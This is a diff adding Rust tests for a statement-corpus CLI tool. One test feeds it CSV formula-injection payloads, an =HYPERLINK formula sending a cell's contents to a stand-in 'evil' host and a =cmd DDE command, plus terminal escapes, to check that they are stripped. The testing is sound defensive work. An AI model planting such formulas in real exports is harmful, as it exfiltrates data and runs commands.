@@ -5,7 +5,7 @@ use std::process::{Command, Stdio};
 use std::thread;
 use std::time::{Duration, Instant};
 
-use crate::support::{Run, Workdir};
+use crate::support::{Run, Workdir, bundled};
 
 /// What would act on a terminal: a line wiped, a title set, the clipboard filled, and letters that read backwards.
 const ESCAPES: &str =
@@ -191,4 +191,159 @@ fn rules_diff_runs_no_command_of_a_repository() {
     assert!(!done.exists(), "a command of the repository has run");
     let run = workdir.run(&["rules", "diff", "--corpus", "c", "--", "--batch"]);
     assert!(run.stderr.contains("no revision begins with `-`"), "{}", run.stderr);
+}
+
+#[test]
+fn no_cell_that_a_page_fills_is_a_formula() {
+    let workdir = Workdir::with_fixture("base");
+    let page = "<html><head><title>=HYPERLINK(\"http://evil/\"&amp;A1,\"Read\")</title>\
+        <meta property=\"og:site_name\" content=\"@Evil\u{202e} \u{1b}[2K\"><link rel=\"canonical\" href=\"=1+1\"></head>\
+        <body><article><p>12 September 2025</p><p>\"=1+1 We will build the tram,\" Alex Example said on Thursday.</p>\
+        <p>\"-5 per cent is too much for any tram,\" Alex Example said.</p></article></body></html>";
+    workdir.write("page.html", page);
+    workdir.write(
+        "page.txt",
+        "=cmd|' /C calc'!A0\n\n12 September 2025\n\n\"@SUM(A1) We will not build it,\" Alex Example said.\n",
+    );
+    let run = workdir.run(&["extract", "page.html", "page.txt", "--corpus", "c", "--published", "2025-09-12"]);
+    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 3, "{}", run.stdout);
+    let of = |row: usize, name: &str| rows[row][header.iter().position(|cell| cell == name).unwrap()].to_owned();
+    assert_eq!(of(0, "source_title"), "HYPERLINK(\"http://evil/\"&A1,\"Read\")");
+    assert_eq!((of(0, "source_publisher"), of(0, "source_url")), ("Evil [2K".to_owned(), String::new()));
+    // The words begin behind the mark, are a stretch of the page, and keep the sign of a number.
+    assert_eq!(of(0, "text"), "1+1 We will build the tram");
+    assert_eq!(of(1, "text"), "-5 per cent is too much for any tram");
+    assert_eq!(of(2, "text"), "SUM(A1) We will not build it");
+    for cell in rows.iter().flatten() {
+        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
+        assert!(!cell.contains(['\u{1b}', '\u{202e}']), "{cell}");
+    }
+    // What stands in a corpus already is not changed, and told.
+    workdir.write(
+        "c/statements.csv",
+        "id,date,speaker,text,page\na-1,2025-03-01,Ada,=1+1 tram,@x\na-2,2025-03-02,Ada,-5 trams,+3\na-3,2025-03-02,Ada,=2,\n",
+    );
+    let check = workdir.run(&["check", "--corpus", "c"]).stdout;
+    let told =
+        "warning: 2 cells of the column text begin with a mark that makes a formula, the first in `a-1` with `=`";
+    assert!(check.contains(told) && check.contains("1 cell of the column page begins"), "{check}");
+    let labels = workdir.run(&["label", "--all", "--corpus", "c"]).stdout;
+    assert!(labels.contains("=1+1 tram"), "{labels}");
+}
+
+#[test]
+fn a_name_typed_in_several_ways_is_one_speaker() {
+    let workdir = Workdir::with_fixture("base");
+    let names = [
+        "Zoë Kraft",
+        "Zoe\u{308} Kraft",
+        "Zoë\u{200b} Kraft",
+        "Zoë\u{a0}Kraft",
+        "zoë kraft",
+        "Zoë Kraftt",
+        "Ben Example",
+    ];
+    let row = |(i, name): (usize, &&str)| format!("s{i},2025-01-0{},{name},We will build the tram.\n", i + 1);
+    let text = format!("id,date,speaker,text\n{}", names.iter().enumerate().map(row).collect::<String>());
+    workdir.write("c/statements.csv", &text);
+    workdir.write("c/labels/anna.csv", "statement_id,issue,position,rationale\n");
+    let check = workdir.run(&["check", "--corpus", "c"]);
+    let told = |rare: &str| {
+        format!("two speakers are nearly alike: `{rare}` with 1 statement and `Zoë Kraft` with 4 statements")
+    };
+    assert!(
+        check.stdout.contains(&told("zoë kraft")) && check.stdout.contains(&told("Zoë Kraftt")),
+        "{}",
+        check.stdout
+    );
+    assert!(check.code == 0 && check.stdout.contains("by 4 speakers"), "{}", check.stdout);
+    let labels = |args: &[&str]| {
+        let args: Vec<&str> = ["label", "--corpus", "c"].iter().chain(args).copied().collect();
+        workdir.run(&args).stdout.lines().count() - 1
+    };
+    assert_eq!(labels(&["--speaker", "Zoe\u{308}\u{2009}Kraft "]), 4);
+    let rules = String::from_utf8(workdir.read("c/rules.toml")).unwrap();
+    workdir.write("c/rules.toml", format!("{rules}speaker = [\"Zoe\u{308} Kraft\"]\n"));
+    assert_eq!(labels(&[]), 4);
+    assert!(!workdir.run(&["check", "--corpus", "c"]).stdout.contains("nobody called"));
+    let drawn = workdir.run(&["chart", "timeline", "--corpus", "c", "--speaker", "Zoë\u{a0}Kraft", "--out", "o"]);
+    assert_eq!((drawn.code, drawn.stderr.as_str()), (0, ""));
+    // Saving the corpus gives back what was written.
+    let files = stance::corpus::Corpus::load(&workdir.path().join("c")).unwrap().to_files();
+    assert_eq!(files[std::path::Path::new("statements.csv")], text);
+    // So does an article, and speakers.toml.
+    workdir.write("people.toml", "[[speaker]]\nname = \"Zoe\u{308} Kraft\"\n");
+    workdir
+        .write("a.txt", "5 March 2025\n\n“We will build the tram,” said Zoe\u{308} Kraft.\n\n“We wait,” Kraft said.\n");
+    let rows = workdir.run(&["extract", "a.txt", "--speakers", "people.toml"]).stdout;
+    assert_eq!(rows.matches(",Zoë Kraft,").count(), 2, "{rows}");
+}
+
+#[test]
+fn the_order_of_rows_and_files_changes_nothing() {
+    let workdir = Workdir::new();
+    let corpus = bundled().into_iter().find(|path| path.ends_with("ukraine-2025")).unwrap();
+    for name in ["a/x", "b/x"] {
+        for file in ["codebook.toml", "rules.toml", "statements.csv", "events.csv"] {
+            workdir.write(&format!("{name}/{file}"), fs::read(corpus.join(file)).unwrap());
+        }
+        for file in fs::read_dir(corpus.join("labels")).unwrap().flatten() {
+            let to = format!("{name}/labels/{}", file.file_name().to_str().unwrap());
+            workdir.write(&to, fs::read(file.path()).unwrap());
+        }
+    }
+    let tables = fs::read_dir(workdir.path().join("b/x/labels")).unwrap().flatten().map(|file| file.path());
+    let others = ["statements.csv", "events.csv"].map(|file| workdir.path().join("b/x").join(file));
+    for table in tables.chain(others) {
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(&table).unwrap();
+        let mut rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        rows[1..].reverse();
+        let mut writer = csv::Writer::from_path(&table).unwrap();
+        rows.iter().for_each(|row| writer.write_record(row).unwrap());
+    }
+    let hash = |name: &str| stance::corpus::Corpus::load(&workdir.path().join(name)).unwrap().fingerprint();
+    assert_eq!(hash("a/x"), hash("b/x"));
+    for args in [
+        &["agree"][..],
+        &["agree", "--by", "speaker", "--format", "json"],
+        &["shifts"],
+        &["label"],
+        &["rules"],
+        &["find", "territory"],
+        &["chart", "timeline", "--format", "svg", "--out", "o"],
+    ] {
+        let run = |corpus: &str| workdir.run(&args.iter().copied().chain(["--corpus", corpus]).collect::<Vec<_>>());
+        let (one, other) = (run("a/x"), run("b/x"));
+        assert_eq!(one.code, 0, "{args:?} {}", one.stderr);
+        assert!(one.stdout == other.stdout, "{args:?}\n{}\n{}", one.stdout, other.stdout);
+    }
+    let article = |day: u8| format!("{day} March 2025\n\n“We will build the tram and the bridge,” said Zoe Kraft.\n");
+    workdir.write("1.txt", article(5));
+    workdir.write("2.txt", article(5));
+    let extract = |files: [&str; 2]| workdir.run(&["extract", files[0], files[1]]).stdout;
+    assert_eq!(extract(["1.txt", "2.txt"]), extract(["2.txt", "1.txt"]));
+}
+
+#[test]
+fn lists_stand_in_one_another_only_so_deep() {
+    let workdir = Workdir::with_fixture("base");
+    let list = |i: usize| format!("l{i:03} = [\"<l{:03}>\"]\n", i - 1);
+    let lists: String = (1..200).map(list).collect();
+    let rule = "[[rule]]\nid = \"r\"\nissue = \"tram\"\nposition = 1\nany = [\"<l019>\"]\n";
+    workdir.write("c/rules.toml", format!("[lists]\nl000 = [\"tram\"]\n{lists}{rule}"));
+    let run = workdir.run(&["check", "--corpus", "c"]);
+    let told = "c/rules.toml:22:9: the list `l020` stands too deep: 20 lists inside one another";
+    assert!(run.stdout.starts_with(told) && run.stdout.contains("\n9 faults\n"), "{}", run.stdout);
+}
+
+#[test]
+fn of_many_equal_faults_the_first_are_told() {
+    let workdir = Workdir::with_fixture("base");
+    workdir.write("c/statements.csv", format!("id,date,speaker,text{}\n", ",c".repeat(500)));
+    let run = workdir.run(&["check", "--corpus", "c"]);
+    assert_eq!(run.stdout.matches("two columns are called `c`").count(), 20);
+    assert!(run.stdout.contains("479 further columns have the name of another"), "{}", run.stdout);
 }
